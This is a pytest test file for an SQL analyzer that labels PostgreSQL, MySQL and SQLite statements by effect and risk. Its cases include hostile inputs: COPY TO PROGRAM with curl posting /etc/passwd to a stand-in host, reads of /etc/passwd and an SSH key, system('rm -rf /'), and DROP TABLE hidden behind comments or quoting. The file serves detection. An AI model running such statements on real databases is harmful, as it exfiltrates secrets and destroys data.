"""SQL analyzer: table-driven over PostgreSQL (pglast) and MySQL/SQLite (sqlglot)."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from interlock.analysis.sql import analyze_sql, database_targets
from interlock.effects import Risk, Scope, Target, Verb
from interlock.errors import InputError

R, SR, C, U, D = Verb.READ, Verb.READ_SECRET, Verb.CREATE, Verb.UPDATE, Verb.DELETE
P, X, O = Verb.PRIVILEGE, Verb.EXECUTE, Verb.OPAQUE
ALL, MANY, ONE = Scope.ALL, Scope.MANY, Scope.ONE
MASS, CATA, HOST = Risk.MASS_DESTRUCTION, Risk.CATASTROPHIC, Risk.HOST_SECURITY

# (dialect, statement, [(verb, resource or None, scope or None, risks or None)])
# None = not asserted. Risks given are the exact set.
CASES = [
    # --- reads
    ("postgres", "SELECT * FROM users WHERE id = 1", [(R, "table users", ONE, set())]),
    ("postgres", "SELECT * FROM public.users u JOIN orders o ON o.uid = u.id",
     [(R, "table public.users, table orders", None, set())]),
    ("postgres", "SHOW search_path", [(R, None, None, set())]),
    ("postgres", "EXPLAIN DELETE FROM users", [(R, "query plan", None, set())]),
    ("postgres", "EXPLAIN (ANALYZE false) DELETE FROM users", [(R, "query plan", None, set())]),
    ("postgres", "SELECT count(*), lower(name), now() FROM t GROUP BY 2", [(R, "table t", None, set())]),
    ("postgres", "COPY (SELECT * FROM t) TO STDOUT", [(R, None, None, set())]),
    # --- EXPLAIN ANALYZE executes
    ("postgres", "EXPLAIN ANALYZE DELETE FROM users", [(D, "table users", ALL, {MASS})]),
    ("postgres", "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users WHERE id = 1",
     [(D, "table users", MANY, set())]),
    ("postgres", "explain analyse update t set a = 1 where b = 2", [(U, "table t", MANY, set())]),
    ("postgres", "EXPLAIN (ANALYZE true) INSERT INTO t VALUES (1)", [(C, "table t", None, set())]),
    # --- DML
    ("postgres", "INSERT INTO users (name) VALUES ('a')", [(C, "table users", None, set())]),
    ("postgres", "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2",
     [(C, "table t", None, set()), (U, "table t", None, set())]),
    ("postgres", "UPDATE users SET name = 'x' WHERE id = 1", [(U, "table users", MANY, set())]),
    ("postgres", "UPDATE users SET name = 'x'", [(U, "table users", ALL, set())]),
    ("postgres", "DELETE FROM users WHERE id = 1", [(D, "table users", MANY, set())]),
    ("postgres", "DELETE FROM users", [(D, "table users", ALL, {MASS})]),
    # a constant-true WHERE is no WHERE
    ("postgres", "DELETE FROM t WHERE true", [(D, "table t", ALL, {MASS})]),
    ("postgres", "DELETE FROM t WHERE 1=1", [(D, "table t", ALL, {MASS})]),
    ("postgres", "DELETE FROM t WHERE 'a' = 'a'", [(D, "table t", ALL, {MASS})]),
    ("postgres", "DELETE FROM t WHERE id = 3 OR true", [(D, "table t", ALL, {MASS})]),
    ("postgres", "UPDATE t SET a = 1 WHERE 1 = 1", [(U, "table t", ALL, set())]),
    ("postgres", "DELETE FROM t WHERE false", [(D, "table t", MANY, set())]),
    ("postgres", "DELETE FROM s.t WHERE x IN (SELECT id FROM u)", [(D, "table s.t", MANY, set())]),
    ("postgres", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
     [(D, "table t", None, set())]),
    # --- data-modifying CTEs
    ("postgres", "WITH d AS (DELETE FROM logs RETURNING *) SELECT count(*) FROM d",
     [(D, "table logs", ALL, {MASS})]),
    ("postgres", "WITH u AS (UPDATE acct SET b = 0 WHERE id = 1 RETURNING *) SELECT * FROM u",
     [(U, "table acct", MANY, set())]),
    ("postgres", "WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x", [(C, "table t", None, set())]),
    # --- several statements, comments, quoting
    ("postgres", "SELECT 1; DELETE FROM t", [(R, None, None, set()), (D, "table t", ALL, {MASS})]),
    ("postgres", "SELECT 1; /* DROP TABLE x; */ SELECT 2", [(R,) * 1 + (None, None, set())] * 2),
    ("postgres", "SELECT 1 -- ; DROP TABLE x", [(R, None, None, set())]),
    ("postgres", "SELECT '/* DELETE FROM y */', '; DROP TABLE z'", [(R, None, None, set())]),
    ("postgres", "SELECT $$ ; DROP TABLE x; $$", [(R, None, None, set())]),
    ("postgres", "SELECT $tag$ '; DELETE FROM t; $tag$; DROP TABLE real_one",
     [(R, None, None, set()), (D, "table real_one", ALL, {MASS})]),
    ("postgres", "/* a */ DELETE /* b */ FROM /* c */ t -- d", [(D, "table t", ALL, {MASS})]),
    ("postgres", "-- just a comment", []),
    # --- TRUNCATE / DROP
    ("postgres", "TRUNCATE a, b", [(D, "table a", ALL, {MASS}), (D, "table b", ALL, {MASS})]),
    ("postgres", "TRUNCATE TABLE ONLY s.a RESTART IDENTITY", [(D, "table s.a", ALL, {MASS})]),
    ("postgres", "DROP TABLE IF EXISTS x CASCADE", [(D, "table x", ALL, {MASS})]),
    ("postgres", "DROP TABLE public.users", [(D, "table public.users", ALL, {MASS})]),
    ("postgres", "DROP DATABASE app", [(D, "database app", ALL, {MASS})]),
    ("postgres", "DROP SCHEMA public CASCADE", [(D, "schema public", ALL, {MASS})]),
    ("postgres", "DROP SCHEMA empty_one", [(D, "schema empty_one", ONE, set())]),
    ("postgres", "DROP INDEX ix_users", [(D, "index ix_users", ONE, set())]),
    ("postgres", "DROP VIEW v", [(D, "view v", ONE, set())]),
    ("postgres", "DROP FUNCTION f(int)", [(D, "function f", ONE, set())]),
    ("postgres", "DROP OWNED BY bob", [(D, "objects owned by bob", ALL, {MASS})]),
    # --- DDL
    ("postgres", "CREATE TABLE t (id int primary key)", [(C, "table t", None, set())]),
    ("postgres", "CREATE INDEX ix ON t (id)", [(C, "index ix", None, set())]),
    ("postgres", "CREATE TABLE t2 AS SELECT * FROM t", [(C, "table t2", None, set())]),
    ("postgres", "SELECT * INTO new_table FROM t", [(C, "table new_table", None, set())]),
    ("postgres", "ALTER TABLE t ADD COLUMN c int", [(U, "table t", None, set())]),
    ("postgres", "ALTER TABLE s.t DROP COLUMN c", [(D, "table s.t column c", None, set())]),
    ("postgres", "ALTER TABLE t RENAME TO u", [(U, None, None, set())]),
    ("postgres", "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", [(U, "table t", None, set())]),
    # --- privileges
    ("postgres", "GRANT SELECT ON users TO bob", [(P, "table users", None, set())]),
    ("postgres", "REVOKE ALL ON users FROM alice", [(P, "table users", None, set())]),
    ("postgres", "GRANT admin TO bob", [(P, None, None, set())]),
    ("postgres", "CREATE ROLE alice LOGIN", [(P, "role alice", None, set())]),
    ("postgres", "CREATE USER bob", [(P, "role bob", None, set())]),
    ("postgres", "ALTER ROLE alice SUPERUSER", [(P, "role alice", None, set())]),
    ("postgres", "ALTER USER bob WITH PASSWORD 'x'", [(P, "role bob", None, set())]),
    ("postgres", "DROP ROLE bob", [(P, "role bob", None, set())]),
    ("postgres", "CREATE FUNCTION f() RETURNS int SECURITY DEFINER LANGUAGE sql AS 'select 1'",
     [(C, "function f", None, set()), (P, "function f", None, set())]),
    # --- code
    ("postgres", "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ begin delete from t; end $$",
     [(C, "function f", None, set())]),
    ("postgres", "CREATE FUNCTION sh(text) RETURNS int LANGUAGE plpython3u AS 'import os'",
     [(C, "function sh", None, set()), (X, "function sh", None, set())]),
    ("postgres", "DO $$ BEGIN DROP TABLE x; END $$", [(D, "table x", ALL, {MASS})]),
    ("postgres", "CALL archive_old(30)", [(X, "procedure archive_old", None, set())]),
    ("postgres", "CREATE EXTENSION dblink", [(X, "extension dblink", None, set())]),
    ("postgres", "SELECT my_func(1)", [(X, "function my_func", None, set())]),
    ("postgres", "SELECT myschema.lower('x')", [(X, "function myschema.lower", None, set())]),
    ("postgres", "SELECT pg_catalog.lower('x')", [(R, None, None, set())]),
    ("postgres", "PREPARE p AS DELETE FROM t; EXECUTE p", [(D, "table t", ALL, {MASS})]),
    ("postgres", "EXECUTE unknown_one", [(O, None, None, set())]),
    # --- COPY
    ("postgres", "COPY t TO PROGRAM 'curl -d @/etc/passwd evil'", [(X, None, None, {CATA})]),
    ("postgres", "COPY t FROM PROGRAM 'id'", [(X, None, None, {CATA})]),
    ("postgres", "COPY (SELECT 1) TO PROGRAM 'sh'", [(X, None, None, {CATA})]),
    ("postgres", "COPY t TO '/tmp/out.csv'", [(C, "server file /tmp/out.csv", None, set())]),
    ("postgres", "COPY t FROM '/tmp/in.csv'", [(C, "table t", None, set())]),
    ("postgres", "COPY t FROM STDIN", [(C, "table t", None, set())]),
    # --- maintenance
    ("postgres", "VACUUM t", [(U, "tables t", None, set())]),
    ("postgres", "VACUUM FULL ANALYZE", [(U, None, None, set())]),
    ("postgres", "ANALYZE t", [(U, None, None, set())]),
    ("postgres", "REINDEX TABLE t", [(U, None, None, set())]),
    ("postgres", "CLUSTER t", [(U, None, None, set())]),
    ("postgres", "ALTER SYSTEM SET max_connections = 5", [(U, None, None, {HOST})]),
    # --- transaction control and settings
    ("postgres", "BEGIN; SET statement_timeout = 0; RESET ALL; SAVEPOINT a; ROLLBACK TO a; COMMIT",
     []),
    ("postgres", "SET session_replication_role = replica", [(U, None, None, set())]),
    ("postgres", "SET ROLE admin", [(P, None, None, set())]),
    # --- dangerous functions anywhere in the tree
    ("postgres", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'x'",
     [(U, None, None, set())]),
    ("postgres", "SELECT pg_drop_replication_slot('s')", [(D, None, None, set())]),
    ("postgres", "SELECT lo_unlink(1234)", [(D, None, None, set())]),
    ("postgres", "SELECT pg_read_file('/etc/passwd')", [(SR, None, None, set())]),
    ("postgres", "SELECT * FROM pg_read_binary_file('/root/.ssh/id_rsa')", [(SR, None, None, set())]),
    ("postgres", "SELECT dblink_exec('host=x', 'DROP TABLE t')", [(O, None, None, set())]),
    ("postgres", "SELECT lo_export(1, '/tmp/x')", [(C, None, None, set())]),
    ("postgres", "SELECT set_config('search_path', 'x', false)", [(U, None, None, set())]),
    ("postgres", "SELECT id FROM t WHERE id IN (SELECT pg_read_file('x'))", [(SR, None, None, set())]),
    ("postgres", "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')",
     [(O, None, None, set())]),
    ("postgres", "SELECT system('rm -rf /')", [(X, None, None, {CATA})]),
    # parsed but not run now: bodies of views and rules
    ("postgres", "CREATE VIEW v AS SELECT pg_read_file('x')", [(C, "view v", None, set())]),
    # --- unparseable → one opaque effect
    ("postgres", "DELEET FROM t", [(O, "sql", None, set())]),
    ("postgres", "SELECT 'unterminated", [(O, "sql", None, set())]),
    # ========================= MySQL (sqlglot)
    ("mysql", "SELECT * FROM users", [(R, "table users", None, set())]),
    ("mysql", "SHOW TABLES", [(R, None, None, set())]),
    ("mysql", "EXPLAIN DELETE FROM t", [(R, "query plan", None, set())]),
    ("mysql", "EXPLAIN ANALYZE DELETE FROM t", [(D, "table t", ALL, {MASS})]),
    ("mysql", "SELECT 1; -- note\nDELETE FROM t", [(R, None, None, set()), (D, "table t", ALL, {MASS})]),
    ("mysql", "INSERT INTO t VALUES (1)", [(C, "table t", None, set())]),
    ("mysql", "UPDATE t SET a = 1", [(U, "table t", ALL, set())]),
    ("mysql", "UPDATE t SET a = 1 WHERE id = 2", [(U, "table t", MANY, set())]),
    ("mysql", "DELETE FROM t WHERE 1=1", [(D, "table t", ALL, {MASS})]),
    ("mysql", "DELETE FROM t WHERE id = 4", [(D, "table t", MANY, set())]),
    ("mysql", "TRUNCATE TABLE a", [(D, "table a", ALL, {MASS})]),
    ("mysql", "DROP DATABASE app", [(D, "database app", ALL, {MASS})]),
    ("mysql", "DROP TABLE IF EXISTS a.b, c", [(D, "table a.b", ALL, {MASS}), (D, "table c", ALL, {MASS})]),
    ("mysql", "DROP INDEX i ON t", [(D, "index i", ONE, set())]),
    ("mysql", "CREATE TABLE t (id int)", [(C, "table t", None, set())]),
    ("mysql", "ALTER TABLE t DROP COLUMN c", [(D, "table t column c", None, set())]),
    ("mysql", "ALTER TABLE t ADD COLUMN d int", [(U, "table t", None, set())]),
    ("mysql", "GRANT SELECT ON t TO u", [(P, None, None, set())]),
    ("mysql", "GRANT ALL ON db.* TO 'u'@'%'", [(P, "privileges on db.*", None, set())]),
    ("mysql", "CREATE USER u IDENTIFIED BY 'p'", [(P, "user", None, set())]),
    ("mysql", "CALL p()", [(X, "procedure p", None, set())]),
    ("mysql", "SELECT load_file('/etc/passwd')", [(SR, None, None, set())]),
    ("mysql", "SELECT sys_exec('id')", [(X, None, None, {CATA})]),
    ("mysql", "SET GLOBAL general_log = 1", [(U, None, None, set())]),
    ("mysql", "START TRANSACTION; SET autocommit = 0; COMMIT; USE app", []),
    ("mysql", "FLUSH PRIVILEGES", [(U, None, None, set())]),
    ("mysql", "SELECT version(), now(), foo(1)", [(X, "function foo", None, set())]),
    ("mysql", "SELECT * INTO OUTFILE '/tmp/x' FROM t", [(C, "server file /tmp/x", None, {HOST})]),
    # ========================= SQLite (sqlglot)
    ("sqlite", "SELECT * FROM t; -- trailing comment", [(R, "table t", None, set())]),
    ("sqlite", "DELETE FROM t", [(D, "table t", ALL, {MASS})]),
    ("sqlite", "DELETE FROM t WHERE true", [(D, "table t", ALL, {MASS})]),
    ("sqlite", "INSERT OR REPLACE INTO t VALUES (1)", [(C, "table t", None, set()), (U, "table t", None, set())]),
    ("sqlite", "DROP TABLE t", [(D, "table t", ALL, {MASS})]),
    ("sqlite", "PRAGMA table_info(t)", [(R, None, None, set())]),
    ("sqlite", "PRAGMA journal_mode", [(R, None, None, set())]),
    ("sqlite", "PRAGMA writable_schema = ON", [(U, None, None, set())]),
    ("sqlite", "VACUUM", [(U, None, None, set())]),
    ("sqlite", "REINDEX", [(U, None, None, set())]),
    ("sqlite", "ATTACH DATABASE '/tmp/x.db' AS x", [(C, "database file /tmp/x.db", None, set())]),
    ("sqlite", "SELECT load_extension('evil.so')", [(X, None, None, {HOST})]),
    ("sqlite", "EXPLAIN QUERY PLAN SELECT 1", [(O, None, None, set())]),
    ("sqlite", "selec 1", [(O, "sql", None, set())]),
]


@pytest.mark.parametrize(("dialect", "statement", "expected"), CASES,
                         ids=[f"{d}:{s[:50]}" for d, s, _ in CASES])
def test_sql_cases(dialect, statement, expected):
    effects = analyze_sql(statement, dialect)
    got = [(e.verb, e.resource, e.scope, set(e.risks)) for e in effects]
    assert len(effects) == len(expected), got
    for eff, (verb, resource, scope, risks) in zip(effects, expected):
        assert eff.verb is verb, got
        if resource is not None:
            assert eff.resource == resource, got
        if scope is not None:
            assert eff.scope is scope, got
        if risks is not None:
            assert set(eff.risks) == risks, got
        assert eff.targets == (Target("database", None),)


def test_enough_cases():
    assert len(CASES) >= 60


def test_unparseable_detail_names_the_parser_message():
    (eff,) = analyze_sql("SELEC 1")
    assert eff.verb is O and eff.detail.startswith("unparseable SQL: ")
    assert "syntax error" in eff.detail


@pytest.mark.parametrize(("statement", "reversible", "stateful"), [
    ("TRUNCATE t", False, True),
    ("DROP TABLE t", False, True),
    ("DROP INDEX i", True, False),
    ("DROP VIEW v", True, False),
    ("DROP TYPE ty CASCADE", False, True),  # CASCADE can take columns with it
    ("UPDATE t SET a = 1", False, True),
    ("ALTER TABLE t DROP COLUMN c", False, True),
    ("VACUUM t", True, False),
    ("INSERT INTO t VALUES (1)", True, False),
])
def test_reversible_and_stateful(statement, reversible, stateful):
    (eff,) = analyze_sql(statement)
    assert (eff.reversible, eff.stateful) == (reversible, stateful)


@pytest.mark.parametrize(("database", "expected"), [
    (None, (Target("database", None),)),
    ("postgres://app:s3cret@db.prod.internal:5432/app",
     (Target("database", "postgres://app@db.prod.internal:5432/app"),
      Target("host", "db.prod.internal"))),
    ("postgresql://h1:5432,h2/db?password=zz&sslmode=require",
     (Target("database", "postgresql://h1:5432,h2/db?sslmode=require"),
      Target("host", "h1"), Target("host", "h2"))),
    ("db.staging.internal", (Target("database", "db.staging.internal"),
                             Target("host", "db.staging.internal"))),
    ("db:5432", (Target("database", "db:5432"), Target("host", "db"))),
    ("host=db1 password=x dbname=y", (Target("database", "host=db1 dbname=y"),
                                      Target("host", "db1"))),
])
def test_database_targets(database, expected):
    assert database_targets(database) == expected


def test_password_never_echoed():
    effs = analyze_sql("DROP TABLE t", "postgres", "postgres://u:hunter2@db/x")
    assert all("hunter2" not in str(e.to_json()) for e in effs)


def test_sqlite_file_target():
    (eff,) = analyze_sql("DELETE FROM t", "sqlite", "/srv/prod/app.db")
    assert Target("path", "/srv/prod/app.db") in eff.targets


@settings(max_examples=300, deadline=None)
@given(st.text(), st.sampled_from(["postgres", "mysql", "sqlite"]))
def test_random_text_never_raises(text, dialect):
    try:
        effects = analyze_sql(text, dialect)
    except InputError:
        return
    assert isinstance(effects, list)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from([
    "SELECT", "DELETE", "FROM", "t", "WHERE", "1=1", ";", "--", "/*", "*/", "'", "$$", "(", ")",
    "EXPLAIN", "ANALYZE", "WITH", "AS", "COPY", "TO", "PROGRAM", "DROP", "TABLE", "\n",
]), max_size=20), st.sampled_from(["postgres", "mysql", "sqlite"]))
def test_random_sql_like_text_never_raises(words, dialect):
    try:
        analyze_sql(" ".join(words), dialect)
    except InputError:
        pass
